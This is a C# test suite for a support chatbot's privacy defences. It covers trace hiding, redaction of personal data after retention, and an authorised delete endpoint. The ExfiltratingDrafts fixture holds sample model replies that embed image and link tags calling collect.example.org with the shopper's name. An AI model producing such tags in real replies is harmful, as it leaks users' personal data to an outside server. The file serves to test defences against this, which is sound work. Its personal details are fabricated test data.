using System.Net;
using System.Net.Http.Json;
using System.Net.WebSockets;
using System.Text.Json;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;
using SupportBot.Storage;
using SupportBot.Tests.DirectLine;
using SupportBot.Tests.Support;
using Step = SupportBot.Tests.Support.FakeChatModel.Step;

namespace SupportBot.Tests.Security;

/// <summary>
/// Privacy, attacked from outside over HTTP on 127.0.0.1: what a shopper's page is sent, what a model's draft may
/// link to, what stays in stored transcripts after retention, and who may delete a shopper's data.
/// </summary>
[Trait(TestCategories.Key, TestCategories.Security)]
public sealed class PrivacyAttackTests
{
    private const string Secret = "privacy-tests-secret-0123456789abcdef";
    private const string AgentKey = "privacy-agent-key";

    [Fact]
    public async Task ShoppersPoll_WithThePagesToken_GetsNoDecisionTraces()
    {
        using var data = TempFolder.Create();
        await using var server = await StartAsync(data.Path);
        var shopper = await DirectLineClient.StartedAsync(server.Client, Secret);

        var echo = await shopper.PostOkAsync("how long do I have to return something?");
        var (activities, _) = await shopper.PollAsync();

        Assert.Contains(activities, a => Type(a) == "message" && ReplyTo(a) == echo);
        Assert.DoesNotContain(activities, a => Type(a) == "trace");
        Assert.DoesNotContain(activities, a => a.GetRawText().Contains("intentConfidence", StringComparison.Ordinal));
    }

    [Fact]
    public async Task ShoppersStream_GetsNoDecisionTraces()
    {
        using var data = TempFolder.Create();
        await using var server = await StartAsync(data.Path);
        var shopper = await DirectLineClient.StartedAsync(server.Client, Secret);
        using var socket = new ClientWebSocket();
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        await socket.ConnectAsync(new Uri(shopper.StreamUrl!), timeout.Token);

        var seen = await DirectLineSocket.ReceiveActivitiesAsync(socket, timeout.Token);
        var echo = await shopper.PostOkAsync("I want to talk to a person");
        while (!seen.Any(a => Type(a) == "message" && ReplyTo(a) == echo))
        {
            seen.AddRange(await DirectLineSocket.ReceiveActivitiesAsync(socket, timeout.Token));
        }

        Assert.DoesNotContain(seen, a => Type(a) == "trace");
        await socket.CloseAsync(WebSocketCloseStatus.NormalClosure, "bye", timeout.Token);
    }

    [Fact]
    public async Task PollWithTheBotsSecret_StillGetsTraces_ForEvaluation()
    {
        using var data = TempFolder.Create();
        await using var server = await StartAsync(data.Path);
        var shopper = await DirectLineClient.StartedAsync(server.Client, Secret);
        await shopper.PostOkAsync("how long do I have to return something?");

        using var response = await shopper.SendAsync(HttpMethod.Get, $"/v3/directline/conversations/{shopper.ConversationId}/activities", credential: Secret);
        var body = await response.Content.ReadFromJsonAsync<JsonElement>();

        Assert.Contains(body.GetProperty("activities").EnumerateArray(), a => Type(a) == "trace");
    }

    /// <summary>
    /// A developer's machine with the Emulator's set-up (no token checks, loopback allowed): only the Emulator channel gets
    /// traces. With token checks on, no loopback service URL is ever called, so a real channel is out of reach here.
    /// </summary>
    [Theory]
    [InlineData("emulator", true)]
    [InlineData("webchat", false)]
    [InlineData("msteams", false)]
    public async Task BotConnector_SendsTraces_OnlyToTheEmulatorWhileDeveloping(string channel, bool traced)
    {
        await using var channelServer = await RecordingServer.StartAsync();
        using var data = TempFolder.Create();
        await using var server = await StartAsync(data.Path, BotConnector.BotConnectorTests.Emulator);

        using var response = await server.Client.PostAsJsonAsync("/api/messages",
            Activities.PostedByChannel(channelServer.Address.ToString().TrimEnd('/'), Activities.NewConversationId("conv"), "do you ship to canada", "act-1", channel));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var sent = channelServer.Requests.Select(r => JsonDocument.Parse(r.Body).RootElement.GetProperty("type").GetString()).ToList();
        Assert.Contains("message", sent);
        Assert.Equal(traced, sent.Contains("trace"));
    }

    /// <summary>A Production server delivers only to https channel hosts, out of reach here: the rule itself is checked.</summary>
    [Theory]
    [InlineData("emulator", "Development", true)]
    [InlineData("emulator", "Production", false)]
    [InlineData("msteams", "Development", false)]
    [InlineData("msteams", "Production", false)]
    public void DecisionTraces_GoOnlyToTheEmulator_OnlyWhileDeveloping(string channel, string environment, bool traced)
    {
        var host = new Microsoft.Extensions.Hosting.Internal.HostingEnvironment { EnvironmentName = environment };

        Assert.Equal(traced, SupportBot.Host.Security.DecisionTraces.GoTo(channel, host));
    }

    public static TheoryData<string> ExfiltratingDrafts => new()
    {
        "You have 30 days to return it [source:return-window]. ![](//collect.example.org/p.png?c=Ana)",
        "You have 30 days [source:return-window]. Start at [the portal](//collect.example.org/returns).",
        "You have 30 days [source:return-window]. <img src=\"https://collect.example.org/p.png?c=Ana\">",
    };

    [Theory]
    [MemberData(nameof(ExfiltratingDrafts))]
    public async Task ModelDraft_LinkingOrLoadingAStrangersServer_NeverReachesTheShopper(string draft)
    {
        await using var model = await FakeChatModel.StartAsync(Step.Text(draft));
        using var data = TempFolder.Create();
        await using var server = await StartAsync(data.Path, model.Settings());
        var shopper = await DirectLineClient.StartedAsync(server.Client, Secret);

        var echo = await shopper.PostOkAsync("how long do I have to return something?");
        var (activities, _) = await shopper.PollAsync();

        var reply = Assert.Single(activities, a => Type(a) == "message" && ReplyTo(a) == echo);
        Assert.NotEmpty(model.Requests);
        Assert.DoesNotContain("collect.example.org", reply.GetRawText(), StringComparison.Ordinal);
        Assert.Contains("30 days", reply.GetProperty("text").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task EvalRecord_OfAMessyConversation_KeepsNoNameAddressTrackingOrContact()
    {
        using var data = TempFolder.Create();
        await using (var server = await StartAsync(data.Path))
        {
            var shopper = await DirectLineClient.StartedAsync(server.Client, Secret, "u-ana");
            await shopper.PostOkAsync(
                "hiii my name is ana lima. i moved!! new addr is 42 birch lane apt 3, portland OR 97205. pkg tracking 1Z 999 AA1 01 2345 6784 "
                + "says delivered?? https://www.ups.com/track?tracknum=1Z999AA10123456784 pls call (503) 555-0142 or ana.lima+shop@example.com, "
                + "paid w/ card 4111 1111 1111 1111");
        }

        using var output = TempFolder.Create();
        var (exit, said, error) = await CliRunner.RunAsync("eval", "record", "--since", "2000-01-01", "--out", output.Path, "--Storage:DataPath", data.Path);

        Assert.True(exit == 0, said + error);
        var transcript = await File.ReadAllTextAsync(Assert.Single(Directory.GetFiles(output.Path, "*.transcript")));
        foreach (var secret in (string[])["ana", "lima", "birch", "97205", "1Z 999", "1Z999AA1", "ups.com", "555-0142", "4111", "example.com/track?"])
        {
            Assert.DoesNotContain(secret, transcript.Replace("shopper@example.com", "", StringComparison.Ordinal), StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public async Task AfterRetention_TheStoredTranscriptKeepsNoEmailPhoneNameOrAddress_AndANewerOneIsUntouched()
    {
        var clock = new FakeTimeProvider(DateTimeOffset.UtcNow);
        using var data = TempFolder.Create();
        await using var server = await StartAsync(data.Path, services => services.AddSingleton<TimeProvider>(clock));
        var store = server.Services.GetRequiredService<IConversationStore>();
        var old = await DirectLineClient.StartedAsync(server.Client, Secret, "u-old");
        await old.PostOkAsync("Hi, I'm Priya Natarajan. Ship to 1200 Oak Street, Suite 5 instead. Reach me at priya.n@example.net or 415-555-0199.");

        clock.Advance(TimeSpan.FromDays(31));
        var recent = await DirectLineClient.StartedAsync(server.Client, Secret, "u-recent");
        await recent.PostOkAsync("my email is jo.recent@example.org");
        clock.Advance(RetentionInterval);

        var stored = await Eventually.ReadAsync(async () => Json(await store.ReadAfterAsync(old.ConversationId!, -1, CancellationToken.None)),
            text => !text.Contains("priya.n@", StringComparison.Ordinal));
        foreach (var secret in (string[])["priya", "Natarajan", "Oak Street", "415-555-0199", "example.net"])
        {
            Assert.DoesNotContain(secret, stored, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("[email]", stored, StringComparison.Ordinal);
        Assert.Contains("jo.recent@example.org", Json(await store.ReadAfterAsync(recent.ConversationId!, -1, CancellationToken.None)), StringComparison.Ordinal);
    }

    [Fact]
    public async Task DeleteOnRequest_RemovesOneShoppersConversationsAndTickets_AndNotAnothers()
    {
        using var data = TempFolder.Create();
        await using var server = await StartAsync(data.Path);
        var ana = new DirectLineClient(server.Client, Secret);
        var bo = new DirectLineClient(server.Client, Secret);
        (await ana.StartAsync("u-ana")).EnsureSuccessStatusCode();
        (await bo.StartAsync("u-bo")).EnsureSuccessStatusCode();
        using (await ana.PostAsync("my email is Ana.Lima@example.com", userId: "u-ana")) { }
        using (await ana.PostAsync("I want to talk to a person", userId: "u-ana")) { }
        using (await bo.PostAsync("my email is bo@example.com, talk to a person please", userId: "u-bo")) { }
        using var agent = new HttpClient { BaseAddress = server.Address, DefaultRequestHeaders = { { "X-Api-Key", AgentKey } } };
        var queueBefore = await agent.GetStringAsync(new Uri("/agent/api/queue", UriKind.Relative));

        using var deleted = await agent.DeleteAsync(new Uri("/agent/api/privacy/shoppers?email=ana.lima%40example.com", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, deleted.StatusCode);
        var counts = await deleted.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(1, counts.GetProperty("conversations").GetInt32());
        Assert.Equal(1, counts.GetProperty("tickets").GetInt32());
        using var anaPoll = await ana.SendAsync(HttpMethod.Get, $"/v3/directline/conversations/{ana.ConversationId}/activities");
        Assert.Equal(HttpStatusCode.NotFound, anaPoll.StatusCode);
        var (boActivities, _) = await bo.PollAsync();
        Assert.Contains(boActivities, a => a.GetRawText().Contains("bo@example.com", StringComparison.Ordinal));
        var queueAfter = await agent.GetStringAsync(new Uri("/agent/api/queue", UriKind.Relative));
        Assert.Contains(ana.ConversationId!, queueBefore, StringComparison.Ordinal);
        Assert.DoesNotContain(ana.ConversationId!, queueAfter, StringComparison.Ordinal);
        Assert.Contains(bo.ConversationId!, queueAfter, StringComparison.Ordinal);
        Assert.Null(await server.Services.GetRequiredService<IConversationStore>().FindUserAsync("u-ana", CancellationToken.None));
    }

    [Fact]
    public async Task DeleteEndpoint_RefusesAnonymousAndWrongKeyCallers_AndDeletesNothing()
    {
        using var data = TempFolder.Create();
        await using var server = await StartAsync(data.Path);
        var ana = await DirectLineClient.StartedAsync(server.Client, Secret, "u-ana");
        await ana.PostOkAsync("my email is ana@example.com");

        using var anonymous = await server.Client.DeleteAsync(new Uri("/agent/api/privacy/shoppers?email=ana%40example.com", UriKind.Relative));
        using var wrongKey = new HttpRequestMessage(HttpMethod.Delete, "/agent/api/privacy/shoppers?user=u-ana") { Headers = { { "X-Api-Key", "guess" } } };
        using var wrong = await server.Client.SendAsync(wrongKey);
        using var withSecret = await ana.SendAsync(HttpMethod.Delete, "/agent/api/privacy/shoppers?user=u-ana", credential: Secret);

        Assert.Equal(HttpStatusCode.Unauthorized, anonymous.StatusCode);
        Assert.Equal("application/problem+json", anonymous.Content.Headers.ContentType?.MediaType);
        Assert.Equal(HttpStatusCode.Unauthorized, wrong.StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, withSecret.StatusCode);
        var (activities, _) = await ana.PollAsync();
        Assert.Contains(activities, a => a.GetRawText().Contains("ana@example.com", StringComparison.Ordinal));
    }

    [Fact]
    public async Task DeleteEndpoint_WithoutAShopper_IsAProblemDetails400()
    {
        using var data = TempFolder.Create();
        await using var server = await StartAsync(data.Path);
        using var agent = new HttpClient { BaseAddress = server.Address, DefaultRequestHeaders = { { "X-Api-Key", AgentKey } } };

        using var none = await agent.DeleteAsync(new Uri("/agent/api/privacy/shoppers", UriKind.Relative));
        using var notEmail = await agent.DeleteAsync(new Uri("/agent/api/privacy/shoppers?email=%25", UriKind.Relative));

        Assert.Equal((HttpStatusCode.BadRequest, HttpStatusCode.BadRequest), (none.StatusCode, notEmail.StatusCode));
        Assert.Equal("application/problem+json", none.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task PrivacyVerbs_DeleteAConversationOnTheCommandLine_AndSayHowToUseThem()
    {
        using var data = TempFolder.Create();
        string kept;
        string gone;
        await using (var server = await StartAsync(data.Path))
        {
            var a = new DirectLineClient(server.Client, Secret);
            var b = new DirectLineClient(server.Client, Secret);
            (await a.StartAsync("u-a")).EnsureSuccessStatusCode();
            (await b.StartAsync("u-b")).EnsureSuccessStatusCode();
            await a.PostOkAsync("my email is a@example.com");
            await b.PostOkAsync("my email is b@example.com");
            (gone, kept) = (a.ConversationId!, b.ConversationId!);
        }

        var (dry, dryOut, _) = await CliRunner.RunAsync("privacy", "delete", "--conversation", gone, "--dry-run", "--json", "--Storage:DataPath", data.Path);
        var (exit, output, error) = await CliRunner.RunAsync("privacy", "delete", "--conversation", gone, "--json", "--Storage:DataPath", data.Path);
        var (purge, purged, _) = await CliRunner.RunAsync("privacy", "purge", "--dry-run", "--Storage:DataPath", data.Path);
        var (none, _, noneError) = await CliRunner.RunAsync("privacy", "delete", "--Storage:DataPath", data.Path);
        var (help, helpOut, _) = await CliRunner.RunAsync("privacy", "purge", "--help");

        Assert.Equal((0, 0, 0, 2, 0), (dry, exit, purge, none, help));
        Assert.Equal(1, JsonDocument.Parse(dryOut).RootElement.GetProperty("conversations").GetInt32());
        Assert.Equal(gone, JsonDocument.Parse(output).RootElement.GetProperty("conversation_ids")[0].GetString());
        Assert.Contains("would redact 0 conversations", purged, StringComparison.Ordinal);
        Assert.Contains("--email, --user or --conversation", noneError, StringComparison.Ordinal);
        Assert.Contains("--dry-run", helpOut, StringComparison.Ordinal);
        Assert.True(error.Length == 0, error);
        var (recorded, _, _) = await CliRunner.RunAsync("eval", "record", "--since", "2000-01-01", "--out", Path.Combine(data.Path, "rec"), "--Storage:DataPath", data.Path);
        Assert.Equal(0, recorded);
        Assert.Equal([kept + ".transcript"], Directory.GetFiles(Path.Combine(data.Path, "rec")).Select(Path.GetFileName));
    }

    private static readonly TimeSpan RetentionInterval = TimeSpan.FromHours(1);

    private static Task<RunningServer> StartAsync(string dataPath, params string[] more) => StartAsync(dataPath, null, more);

    private static Task<RunningServer> StartAsync(string dataPath, Action<IServiceCollection>? replace, params string[] more) =>
        RunningServer.StartAsync(replace, [
            "--Storage:DataPath", dataPath, "--DirectLine:Secret", Secret, "--Handoff:RequireAgentOnline", "false", .. Handoff.HandoffFixture.AlwaysOpen,
            "--Handoff:Agents:1:Id", "privacy-agent", "--Handoff:Agents:1:Name", "Pat", "--Handoff:Agents:1:ApiKey", AgentKey, .. more]);

    private static string? Type(JsonElement activity) => activity.GetProperty("type").GetString();

    private static string? ReplyTo(JsonElement activity) => activity.TryGetProperty("replyToId", out var id) ? id.GetString() : null;

    private static string Json(IReadOnlyList<StoredActivity> activities) =>
        string.Join('\n', activities.Select(a => JsonSerializer.Serialize(a.Activity, SupportBot.Schema.ActivityJson.Options)));
}
